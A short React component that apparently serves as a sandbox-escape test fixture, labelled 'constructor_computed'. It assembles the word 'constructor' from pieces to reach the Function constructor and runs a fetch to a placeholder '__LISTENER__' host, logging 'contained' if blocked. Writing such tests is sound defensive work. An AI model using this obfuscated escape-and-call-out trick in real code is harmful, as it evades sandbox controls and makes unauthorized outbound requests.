import { useEffect } from "react";

// Escape attempt: constructor_computed
export default function Hostile() {
  useEffect(() => {
    try {
      const c = "con" + "structor"; ({})[c][c]("fetch('__LISTENER__/constructor_computed')")();
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, []);
  return <p data-testid="hostile">constructor_computed</p>;
}
